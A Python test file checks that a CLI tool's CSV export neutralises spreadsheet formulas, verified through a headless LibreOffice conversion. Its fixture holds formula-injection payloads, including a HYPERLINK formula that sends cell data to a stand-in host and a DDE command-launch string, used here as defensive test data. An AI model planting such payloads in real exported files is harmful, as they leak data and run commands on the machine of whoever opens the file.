"""`twoway export`: the documented columns, --since, JSON Lines, and CSV that a spreadsheet
(LibreOffice headless, converting to .xlsx) opens without evaluating any formula."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
import yaml
from click.testing import CliRunner

from tests.conftest import ROOT, base_config_data
from worker.cli import main
from worker.export import EVENT_COLUMNS, LEAD_COLUMNS, PROSPECT_COLUMNS, neutralise

README = (ROOT / "README.md").read_text()
HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "last_name": "+1+2",
    "company": "@SUM(1+1)",
    "title": "-2+3",
    "notes": "=cmd|' /C calc'!A0",
}


def documented_columns() -> list[str]:
    section = README.split("### Export to a CRM", 1)[1].split("\n### ", 1)[0]
    return re.findall(r"^\| `([a-z_]+)` \|", section, flags=re.M)


def test_it_documents_every_exported_column_in_the_readme_mapping() -> None:
    assert documented_columns() == list(PROSPECT_COLUMNS)
    assert PROSPECT_COLUMNS[: len(LEAD_COLUMNS)] == LEAD_COLUMNS
    assert all(f"`{c}`" in README for c in EVENT_COLUMNS)


def test_it_neutralises_what_a_spreadsheet_would_evaluate() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("\t=1") == "'\t=1"
    assert neutralise("Maria") == "Maria"
    assert neutralise(42) == 42


def twoway(cfg: Path, *args: str, now: str = "2026-12-03T10:00:00Z") -> str:
    """Run a command in this process (as the console script would) and return its stdout."""
    out = CliRunner().invoke(main, ["--config", str(cfg), *args], env={"TWOWAY_NOW": now})
    assert out.exit_code == 0, out.output
    return out.stdout


def export(cfg: Path, *args: str) -> str:
    return twoway(cfg, "export", *args)


@pytest.fixture
def workspace(database_url: str, tmp_path: Path) -> Path:
    cfg = tmp_path / "twoway.yaml"
    cfg.write_text(yaml.safe_dump(base_config_data(database_url, tmp_path)))
    leads = tmp_path / "leads.csv"
    with leads.open("w", newline="") as f:
        w = csv.DictWriter(f, ["email", *HOSTILE, "country"])
        w.writeheader()
        w.writerow({"email": "evil@attacker.example", **HOSTILE, "country": "FR"})
        w.writerow({"email": "maria@nube.example", "first_name": "Maria", "company": "Nube"})
    twoway(cfg, "leads", "import", str(leads), "--campaign", "welcome", now="2026-12-01T10:00:00Z")
    twoway(cfg, "leads", "mark", "maria@nube.example", "customer", now="2026-12-02T10:00:00Z")
    return cfg


def test_it_exports_leads_prospects_and_events_with_since(workspace: Path) -> None:
    leads = list(csv.DictReader(io.StringIO(export(workspace, "leads"))))
    assert [r["email"] for r in leads] == ["evil@attacker.example", "maria@nube.example"]
    assert leads[0]["first_name"] == "'" + HOSTILE["first_name"]
    assert leads[0]["custom.notes"] == "'" + HOSTILE["notes"]
    assert leads[0]["campaigns"] == "welcome" and leads[0]["company_domain"] == "attacker.example"
    prospects = list(csv.DictReader(io.StringIO(export(workspace, "prospects"))))
    assert [(r["email"], r["opportunity_stage"]) for r in prospects] == [
        ("maria@nube.example", "customer")
    ]
    assert prospects[0]["opportunity_name"] == "Nube — Maria"
    since = export(workspace, "events", "--format", "jsonl", "--since", "2026-12-02")
    events = [json.loads(line) for line in since.splitlines()]
    assert [(e["email"], e["type"], e["to_status"]) for e in events] == [
        ("maria@nube.example", "status", "customer")
    ]
    jsonl = [json.loads(x) for x in export(workspace, "leads", "--format", "jsonl").splitlines()]
    assert jsonl[0]["first_name"] == HOSTILE["first_name"]  # JSON is data: left as it is
    assert jsonl[0]["custom"] == {"notes": HOSTILE["notes"]}


def column_index(ref: str) -> int:
    """0 for A1, 25 for Z7, 26 for AA3."""
    n = 0
    for ch in re.match(r"[A-Z]+", ref).group(0):  # type: ignore[union-attr]
        n = n * 26 + ord(ch) - ord("A") + 1
    return n - 1


def cells(xlsx: Path) -> tuple[list[list[str]], int]:
    """Every row's cell texts of the first sheet, and how many cells hold a formula."""
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(xlsx) as z:
        shared = [
            "".join(t.text or "" for t in si.iter(f"{{{ns['m']}}}t"))
            for si in ElementTree.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", ns)
        ]
        sheet = ElementTree.fromstring(z.read("xl/worksheets/sheet1.xml"))
    formulas = len(sheet.findall(".//m:f", ns))
    out: list[list[str]] = []
    for row in sheet.findall(".//m:row", ns):
        texts: dict[int, str] = {}
        for c in row.findall("m:c", ns):
            v = c.find("m:v", ns)
            raw = v.text if v is not None and v.text is not None else ""
            texts[column_index(c.get("r", ""))] = shared[int(raw)] if c.get("t") == "s" else raw
        out.append([texts.get(i, "") for i in range(max(texts, default=-1) + 1)])
    return out, formulas


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) not installed")
def test_libreoffice_opens_the_csv_without_evaluating_any_formula(
    sqlite_url: str, tmp_path: Path
) -> None:
    cfg = tmp_path / "twoway.yaml"
    cfg.write_text(yaml.safe_dump(base_config_data(sqlite_url, tmp_path)))
    leads = tmp_path / "leads.csv"
    with leads.open("w", newline="") as f:
        w = csv.DictWriter(f, ["email", *HOSTILE])
        w.writeheader()
        w.writerow({"email": "evil@attacker.example", **HOSTILE})
    twoway(cfg, "leads", "import", str(leads))
    exported = tmp_path / "export.csv"
    exported.write_text(export(cfg, "leads"), encoding="utf-8")
    # The control: the same hostile cells, not neutralised, as a naive export writes them.
    naive = tmp_path / "naive.csv"
    with naive.open("w", newline="") as f:
        csv.writer(f).writerows([list(HOSTILE), list(HOSTILE.values())])
    out = tmp_path / "converted"
    subprocess.run(
        [
            "soffice", f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless",
            "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(out),
            str(exported), str(naive),
        ],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    rows, formulas = cells(out / "export.xlsx")
    _, naive_formulas = cells(out / "naive.xlsx")
    assert naive_formulas >= 2  # LibreOffice does evaluate what is not neutralised
    assert formulas == 0
    header = rows[0]
    assert header == [*LEAD_COLUMNS, "custom.notes"]
    record = dict(zip(header, rows[1], strict=False))
    for column in ("first_name", "last_name", "company", "title"):
        assert record[column] == "'" + HOSTILE[column], column
    assert record["custom.notes"] == "'" + HOSTILE["notes"]
